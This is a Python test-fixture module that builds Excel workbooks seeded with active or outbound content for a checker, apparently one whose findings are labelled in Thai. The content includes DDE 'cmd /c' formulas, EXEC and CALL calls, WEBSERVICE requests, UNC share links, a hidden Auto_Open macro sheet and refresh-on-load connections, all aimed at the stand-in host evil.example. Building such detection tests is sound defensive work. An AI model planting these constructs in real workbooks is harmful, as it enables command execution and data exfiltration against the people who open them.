"""Workbooks with what runs, fetches or leads elsewhere: one builder a kind, each put into a tracker's parts.

A builder changes the parts and leaves `EVIL` (or a word of its own) behind wherever the content would act.
"""

from __future__ import annotations

import re
from collections.abc import Callable
from typing import NamedTuple

Parts = dict[str, bytes]

EVIL = "evil.example"
UNC = rf"\\{EVIL}\share\x.xlsm"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MS = "http://schemas.microsoft.com/office/2006/relationships"
SHEET = "xl/worksheets/sheet3.xml"
BOOK = "xl/workbook.xml"
DRAWING = "xl/drawings/drawing1.xml"
CHART = "xl/charts/chart1.xml"
VML = "xl/drawings/vmlDrawing2.vml"
A_CELL = b'<c r="Z50"'


class Content(NamedTuple):
    """`word` is a part of the Thai phrase that tells of it; '' for what stays, untold, with `needle`."""

    build: Callable[[Parts], None]
    word: str
    needle: str = EVIL


def rels_of(part: str) -> str:
    folder, _, name = part.rpartition("/")
    return f"{folder}/_rels/{name}.rels".lstrip("/")


def relate(parts: Parts, part: str, key: str, kind: str, target: str, *, external: bool = False) -> None:
    rels = rels_of(part) if part else "_rels/.rels"
    mode = ' TargetMode="External"' if external else ""
    kind = kind if "://" in kind else f"{OFFICE}/{kind}"
    one = f'<Relationship Id="{key}" Type="{kind}" Target="{target}"{mode}/></Relationships>'
    empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
    parts[rels] = parts.get(rels, empty).replace(b"</Relationships>", one.encode())


def add(parts: Parts, name: str, content: bytes, type_: str = "") -> None:
    parts[name] = content
    if type_:
        override = f'<Override PartName="/{name}" ContentType="{type_}"/></Types>'
        parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", override.encode())


def put(parts: Parts, part: str, before: bytes, more: str) -> None:
    assert before in parts[part], (part, before)
    head, at, tail = parts[part].rpartition(before)
    parts[part] = head + more.encode() + at + tail


def cell(formula: str, about: str = "", value: str = "<v>77</v>") -> Callable[[Parts], None]:
    def build(parts: Parts) -> None:
        text = formula.replace("&", "&amp;").replace("<", "&lt;")
        put(parts, SHEET, b"</sheetData>", f'<row r="90"><c r="Z90"><f{about}>{text}</f>{value}</c></row>')

    return build


def linked(target: str) -> Callable[[Parts], None]:
    def build(parts: Parts) -> None:
        relate(parts, SHEET, "rIdLink", "hyperlink", target, external=True)
        links = f'<hyperlinks xmlns:r="{OFFICE}"><hyperlink ref="C6" r:id="rIdLink"/></hyperlinks>'
        put(parts, SHEET, b"<pageMargins", links)

    return build


def located(parts: Parts) -> None:
    place = f'<hyperlinks><hyperlink ref="C6" location="\'[{UNC}]S\'!A1"/></hyperlinks>'
    put(parts, SHEET, b"<pageMargins", place)


def foreign_macros(parts: Parts) -> None:
    parts["xl/vbaProject.bin"] = f"VBA of {EVIL}: Auto_Open, Workbook_Open".encode()


def more_macros(parts: Parts) -> None:
    """Ours, with a module more: Excel keeps PROJECT as plain text, here behind the same name."""
    vba = parts["xl/vbaProject.bin"]
    changed = vba.replace(b'Name="VBAProject"', b"Module=evilex\r\nX=")
    assert len(changed) == len(vba) and changed != vba
    parts["xl/vbaProject.bin"] = changed


def other_settings(parts: Parts) -> None:
    strings = "xl/sharedStrings.xml"
    parts[strings] = re.sub(
        rb"%LOCALAPPDATA%[^<]*python\.exe", UNC.encode().replace(b"\\", rb"\\"), parts[strings]
    )
    assert EVIL.encode() in parts[strings]


def ribbon(parts: Parts) -> None:
    add(parts, "customUI/customUI14.xml", f'<customUI onLoad="{EVIL}"/>'.encode())
    relate(parts, "", "rIdUi", MS.replace("2006", "2007") + "/ui/extensibility", "customUI/customUI14.xml")


def external_link(parts: Parts) -> None:
    name = "xl/externalLinks/externalLink1.xml"
    link = f'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="{OFFICE}"><externalBook r:id="rId1"/></externalLink>'  # noqa: E501
    kind = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"
    add(parts, name, link.encode(), kind)
    relate(parts, name, "rId1", "externalLinkPath", f"file:///{UNC}", external=True)
    relate(parts, BOOK, "rIdX", "externalLink", "externalLinks/externalLink1.xml")
    parts[BOOK] = parts[BOOK].replace(
        b"<definedNames>",
        b'<externalReferences><externalReference r:id="rIdX"/></externalReferences><definedNames>',
    )
    cell("[1]Sheet1!A1")(parts)


def dde_link(parts: Parts) -> None:
    external_link(parts)
    dde = f'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c {EVIL}"/></externalLink>'  # noqa: E501
    parts["xl/externalLinks/externalLink1.xml"] = dde.encode()


def defined(text: str, about: str = "") -> Callable[[Parts], None]:
    def build(parts: Parts) -> None:
        name = about or 'name="evil_name"'
        put(parts, BOOK, b"</definedNames>", f"<definedName {name}>{text}</definedName>")

    return build


def list_of(formula: str) -> Callable[[Parts], None]:
    def build(parts: Parts) -> None:
        rule = f'<dataValidation type="list" sqref="Z9"><formula1>{formula}</formula1></dataValidation>'
        put(parts, SHEET, b"</dataValidations>", rule)

    return build


def format_of(formula: str) -> Callable[[Parts], None]:
    def build(parts: Parts) -> None:
        rule = f'<conditionalFormatting sqref="Z9"><cfRule type="expression" priority="1"><formula>{formula}</formula></cfRule></conditionalFormatting>'  # noqa: E501
        put(parts, SHEET, b"<dataValidations", rule)

    return build


def bar_of(formula: str) -> Callable[[Parts], None]:
    def build(parts: Parts) -> None:
        bar = f'<dataBar><cfvo type="formula" val="{formula}"/><cfvo type="max"/><color rgb="FF0000"/></dataBar>'  # noqa: E501
        rule = f'<conditionalFormatting sqref="Z9"><cfRule type="dataBar" priority="1">{bar}</cfRule></conditionalFormatting>'  # noqa: E501
        put(parts, SHEET, b"<dataValidations", rule)

    return build


def connections(parts: Parts) -> None:
    add(
        parts, "xl/connections.xml", f'<connections><connection odcFile="{EVIL}"/></connections>'.encode(),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
    )  # fmt: skip
    relate(parts, BOOK, "rIdConn", "connections", "connections.xml")
    name = "xl/tables/table1.xml"
    parts[name] = parts[name].replace(b"<table ", b'<table tableType="queryTable" connectionId="1" ', 1)
    relate(parts, name, "rIdQ", "queryTable", "../queryTables/queryTable1.xml")
    add(parts, "xl/queryTables/queryTable1.xml", f'<queryTable name="{EVIL}" refreshOnLoad="1"/>'.encode())


def column_formula(parts: Parts) -> None:
    name = "xl/tables/table1.xml"
    parts[name] = re.sub(
        rb"(<tableColumn [^>]*)/>",
        rf'\1><calculatedColumnFormula>WEBSERVICE("http://{EVIL}")</calculatedColumnFormula></tableColumn>'.encode(),
        parts[name],
        count=1,
    )
    assert EVIL.encode() in parts[name]


def pivot(parts: Parts) -> None:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    source = f'<worksheetSource ref="A1:B2" sheet="S" r:id="rIdE" xmlns:r="{OFFICE}"/>'
    cache = f'<pivotCacheDefinition xmlns="{main}" refreshOnLoad="1" refreshedBy="{EVIL}"><cacheSource type="worksheet">{source}</cacheSource><cacheFields count="0"/></pivotCacheDefinition>'  # noqa: E501
    add(
        parts, "xl/pivotCache/pivotCacheDefinition1.xml", cache.encode(),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.pivotCacheDefinition+xml",
    )  # fmt: skip
    relate(
        parts, "xl/pivotCache/pivotCacheDefinition1.xml", "rIdE", "externalLinkPath", f"file:///{UNC}",
        external=True,
    )  # fmt: skip
    relate(parts, BOOK, "rIdP", "pivotCacheDefinition", "pivotCache/pivotCacheDefinition1.xml")
    put(parts, BOOK, b"</workbook>", '<pivotCaches><pivotCache cacheId="1" r:id="rIdP"/></pivotCaches>')
    table = f'<pivotTableDefinition xmlns="{main}" name="p" cacheId="1" dataCaption="d"><location ref="Z1:Z2" firstHeaderRow="0" firstDataRow="0" firstDataCol="0"/></pivotTableDefinition>'  # noqa: E501
    add(
        parts, "xl/pivotTables/pivotTable1.xml", table.encode(),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.pivotTable+xml",
    )  # fmt: skip
    relate(parts, SHEET, "rIdPt", "pivotTable", "/xl/pivotTables/pivotTable1.xml")


def macro_sheet(parts: Parts) -> None:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    sheet = f'<xm:macrosheet xmlns="{main}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("{EVIL}")</f></c></row></sheetData></xm:macrosheet>'  # noqa: E501
    add(parts, "xl/macrosheets/sheet1.xml", sheet.encode(), "application/vnd.ms-excel.macrosheet+xml")
    relate(parts, BOOK, "rIdM", f"{MS}/xlMacrosheet", "macrosheets/sheet1.xml")
    put(parts, BOOK, b"</sheets>", '<sheet name="Macro1" sheetId="99" state="veryHidden" r:id="rIdM"/>')
    defined("Macro1!$A$1", 'name="_xlnm.Auto_Open"')(parts)


def embedding(parts: Parts) -> None:
    add(parts, "xl/embeddings/oleObject1.bin", EVIL.encode())
    relate(parts, SHEET, "rIdO", "oleObject", "../embeddings/oleObject1.bin")
    put(
        parts, SHEET, b"<tableParts",
        f'<oleObjects xmlns:r="{OFFICE}"><oleObject progId="Package" shapeId="1025" r:id="rIdO" link="{EVIL}"/></oleObjects>',  # noqa: E501
    )  # fmt: skip


def active_x(parts: Parts) -> None:
    add(parts, "xl/activeX/activeX1.xml", f'<ax:ocx xmlns:ax="{EVIL}" classid="{EVIL}"/>'.encode())
    add(parts, "xl/activeX/activeX1.bin", EVIL.encode())
    relate(parts, SHEET, "rIdA", "control", "../activeX/activeX1.xml")


def control_properties(parts: Parts) -> None:
    add(parts, "xl/ctrlProps/ctrlProp1.xml", f'<formControlPr fmlaLink="{EVIL}"/>'.encode())
    relate(parts, SHEET, "rIdC", "ctrlProp", "../ctrlProps/ctrlProp1.xml")


def power_query(parts: Parts) -> None:
    add(parts, "customXml/item1.xml", f"<DataMashup>{EVIL}</DataMashup>".encode())
    relate(parts, BOOK, "rIdCx", "customXml", "../customXml/item1.xml")


def add_in(parts: Parts) -> None:
    add(parts, "xl/webextensions/taskpanes.xml", f"<taskpanes>{EVIL}</taskpanes>".encode())
    kind = "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes"
    relate(parts, "", "rIdT", kind, "xl/webextensions/taskpanes.xml")


def signed(parts: Parts) -> None:
    add(parts, "_xmlsignatures/origin.sigs", EVIL.encode())
    kind = "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin"
    relate(parts, "", "rIdS", kind, "_xmlsignatures/origin.sigs")


def link_base(parts: Parts) -> None:
    put(parts, "docProps/app.xml", b"</Properties>", f"<HyperlinkBase>{UNC}</HyperlinkBase>")


def web_publishing(parts: Parts) -> None:
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    item = f'<webPublishItem id="1" divId="d" sourceType="sheet" sourceRef="A1" destinationFile="{UNC}" autoRepublish="1"/>'  # noqa: E501
    sheet = f'<chartsheet xmlns="{main}"><sheetViews><sheetView workbookViewId="0"/></sheetViews><drawing r:id="rId1" xmlns:r="{OFFICE}"/><webPublishItems count="1">{item}</webPublishItems></chartsheet>'  # noqa: E501
    add(
        parts, "xl/chartsheets/sheet1.xml", sheet.encode(),
        "application/vnd.openxmlformats-officedocument.spreadsheetml.chartsheet+xml",
    )  # fmt: skip
    relate(parts, "xl/chartsheets/sheet1.xml", "rId1", "drawing", "../drawings/drawing1.xml")
    relate(parts, BOOK, "rIdCs", "chartsheet", "chartsheets/sheet1.xml")
    put(parts, BOOK, b"</sheets>", '<sheet name="Chart9" sheetId="98" r:id="rIdCs"/>')


def shape(inner: str = "", about: str = 'macro=""') -> Callable[[Parts], None]:
    def build(parts: Parts) -> None:
        one = f'<xdr:absoluteAnchor><xdr:pos x="0" y="0"/><xdr:ext cx="9" cy="9"/><xdr:sp {about}><xdr:nvSpPr><xdr:cNvPr id="9" name="s">{inner}</xdr:cNvPr><xdr:cNvSpPr/></xdr:nvSpPr><xdr:spPr/></xdr:sp><xdr:clientData/></xdr:absoluteAnchor>'  # noqa: E501
        put(parts, DRAWING, b"</xdr:wsDr>", one)

    return build


def shape_link(target: str, *, action: str = "") -> Callable[[Parts], None]:
    def build(parts: Parts) -> None:
        relate(parts, DRAWING, "rIdH", "hyperlink", target, external=True)
        acts = f' action="{action}"' if action else ""
        shape(f'<a:hlinkClick xmlns:r="{OFFICE}" r:id="rIdH"{acts}/>')(parts)

    return build


def picture(name: str) -> Callable[[Parts], None]:
    """A picture from elsewhere: `name` is 'link' or 'embed', the attribute that asks for it."""

    def build(parts: Parts) -> None:
        relate(parts, DRAWING, "rIdI", "image", f"file:///{UNC}", external=True)
        one = f'<xdr:absoluteAnchor><xdr:pos x="0" y="0"/><xdr:ext cx="9" cy="9"/><xdr:pic><xdr:nvPicPr><xdr:cNvPr id="9" name="p"/><xdr:cNvPicPr/></xdr:nvPicPr><xdr:blipFill><a:blip xmlns:r="{OFFICE}" r:{name}="rIdI"/></xdr:blipFill><xdr:spPr/></xdr:pic><xdr:clientData/></xdr:absoluteAnchor>'  # noqa: E501
        put(parts, DRAWING, b"</xdr:wsDr>", one)

    return build


def chart_data(parts: Parts) -> None:
    relate(parts, CHART, "rIdD", "oleObject", f"file:///{UNC}", external=True)
    put(parts, CHART, b"</c:chartSpace>", f'<c:externalData xmlns:r="{OFFICE}" r:id="rIdD"/>')


def chart_range(parts: Parts) -> None:
    parts[CHART] = re.sub(rb"<c:f>[^<]*</c:f>", rf"<c:f>'[{EVIL}]S'!A1</c:f>".encode(), parts[CHART], count=1)


def vml(more: str, before: bytes = b"</x:ClientData>") -> Callable[[Parts], None]:
    return lambda parts: put(parts, VML, before, more)


def vml_picture(parts: Parts) -> None:
    put(parts, VML, b"<x:ClientData", f'<v:imagedata src="http://{EVIL}/a.png" o:href="{UNC}"/>')


def vml_call(parts: Parts) -> None:
    parts[VML] = parts[VML].replace(b"[0]!Btn_Memo<", f"'{UNC}'!Run<".encode())


def broken_vml(parts: Parts) -> None:
    parts[VML] = f"<xml>{EVIL}<br></xml>".encode()


def web_service(how: str) -> str:
    return how.format(f'"http://{EVIL}/"')


FORMULA, LINK = "สูตรที่ดึงข้อมูล", "ลิงก์ที่ไม่ได้ชี้"
CONTENTS: dict[str, Content] = {
    "foreign macros": Content(foreign_macros, "แมโครที่ไม่ใช่"),
    "a module more": Content(more_macros, "แมโครที่ไม่ใช่", "evilex"),
    "settings that name another Python": Content(other_settings, "การตั้งค่าของปุ่ม"),
    "a ribbon that calls": Content(ribbon, "แถบคำสั่ง"),
    "external link": Content(external_link, "ลิงก์ไปยังสมุดงาน"),
    "DDE link": Content(dde_link, "ลิงก์ไปยังสมุดงาน"),
    "WEBSERVICE": Content(cell(web_service("WEBSERVICE({})")), FORMULA),
    "_xlfn.WEBSERVICE within": Content(cell(web_service("IF(1,_xlfn.WEBSERVICE({}),0)")), FORMULA),
    "IMAGE": Content(cell(web_service("_xlfn.IMAGE({})")), FORMULA),
    "RTD": Content(cell(f'RTD("{EVIL}",,"a")'), FORMULA),
    "DDE formula": Content(cell(f"cmd|'/c {EVIL}'!A0"), FORMULA),
    "CALL": Content(cell(f'CALL("{EVIL}","a","J")'), FORMULA),
    "REGISTER": Content(cell(f'REGISTER.ID("{EVIL}","a")'), FORMULA),
    "EXEC": Content(cell(f'EXEC("{EVIL}")'), FORMULA),
    "a function unknown": Content(cell(f'Evil_Udf("{EVIL}")'), FORMULA),
    "cube": Content(cell(f'CUBEVALUE("{EVIL}","x")'), FORMULA),
    "array formula": Content(cell(web_service("WEBSERVICE({})"), ' t="array" ref="Z90"'), FORMULA),
    "shared formula": Content(cell(web_service("WEBSERVICE({})"), ' t="shared" si="9" ref="Z90"'), FORMULA),
    "a cell of another workbook": Content(cell(f"'\\\\{EVIL}\\s\\[x.xlsx]S'!A1"), FORMULA),
    "a name of another workbook": Content(cell(f"'\\\\{EVIL}\\s\\x.xlsx'!Name"), FORMULA),
    "HYPERLINK to a share": Content(cell(rf'HYPERLINK("{UNC}","a")'), FORMULA),
    "HYPERLINK put together": Content(cell(rf'HYPERLINK("\\"&"{EVIL}\a","a")'), FORMULA),
    "HYPERLINK to a page": Content(cell(f'HYPERLINK("https://{EVIL}/","a")'), ""),
    "a formula that calculates": Content(cell(f'IF(SUM(A1:A3)>0,"{EVIL}",Z1)'), ""),
    "link to a share": Content(linked(f"file:///{UNC}"), LINK),
    "link to a share as typed": Content(linked(UNC), LINK),
    "javascript": Content(linked(f"javascript:{EVIL}"), LINK),
    "ms-office scheme": Content(linked(f"ms-excel:ofe|u|http://{EVIL}"), LINK),
    "data": Content(linked(f"data:text/html,{EVIL}"), LINK),
    "relative": Content(linked(f"../../{EVIL}.exe"), LINK),
    "hidden scheme": Content(linked(f"http&#10;://{EVIL}"), LINK),
    "place in another workbook": Content(located, LINK),
    "link to a page": Content(linked(f"https://{EVIL}/a"), ""),
    "mailto": Content(linked(f"mailto:a@{EVIL}"), ""),
    "name with WEBSERVICE": Content(defined(web_service("WEBSERVICE({})")), "ชื่อที่กำหนด"),
    "name of another workbook": Content(defined(f"'[{EVIL}]S'!A1"), "ชื่อที่กำหนด"),
    "Auto_Open": Content(defined("A1", 'name="Auto_Open"'), "ชื่อที่กำหนด", "Auto_Open"),
    "VBA name": Content(defined("A1", 'name="evil.example" vbProcedure="1"'), "ชื่อที่กำหนด"),
    "list from elsewhere": Content(list_of(f"'[{EVIL}]S'!A1"), "รายการตัวเลือก"),
    "format from elsewhere": Content(format_of(f"CALL('{EVIL}')"), "เงื่อนไข"),
    "bar from elsewhere": Content(bar_of(f"'[{EVIL}]S'!A1"), "เงื่อนไข"),
    "connections": Content(connections, "การเชื่อมต่อ"),
    "column formula": Content(column_formula, FORMULA),
    "pivot from elsewhere": Content(pivot, "PivotTable"),
    "macro sheet": Content(macro_sheet, "แผ่นงานแมโคร"),
    "embedded object": Content(embedding, "วัตถุที่ฝัง"),
    "ActiveX": Content(active_x, "ActiveX"),
    "control properties": Content(control_properties, "ตัวควบคุมแบบฟอร์ม"),
    "Power Query": Content(power_query, "การเชื่อมต่อ"),
    "add-in": Content(add_in, "โปรแกรมเสริม"),
    "signature": Content(signed, "ลายเซ็น"),
    "web publishing": Content(web_publishing, "เผยแพร่"),
    "base of links": Content(link_base, ""),
    "shape with macro": Content(shape(about=f'macro="{EVIL}!Run"'), "แมโครที่ผูก"),
    "shape with text from elsewhere": Content(shape(about=f'macro="" textlink="\'[{EVIL}]S\'!A1"'), "รูปวาด"),
    "shape with link to a share": Content(shape_link(f"file:///{UNC}"), "ลิงก์ในรูปวาด"),
    "shape with action": Content(shape_link("https://ok.example", action=EVIL), "ลิงก์ในรูปวาด"),
    "shape with link to a page": Content(shape_link(f"https://{EVIL}/"), ""),
    "linked picture": Content(picture("link"), "รูปวาด"),
    "picture embedded elsewhere": Content(picture("embed"), "รูปวาด"),
    "chart data": Content(chart_data, "รูปวาด"),
    "chart range": Content(chart_range, "รูปวาด"),
    "button that calls elsewhere": Content(vml_call, "แมโครที่ผูก"),
    "button that reads elsewhere": Content(vml(f"<x:FmlaLink>'[{EVIL}]S'!A1</x:FmlaLink>"), "รูปวาด"),
    "button with script": Content(vml(f"<x:ScriptText>{EVIL}</x:ScriptText>"), "รูปวาด"),
    "old picture": Content(vml_picture, "รูปวาด"),
    "old drawing that is broken": Content(broken_vml, "รูปวาด"),
}
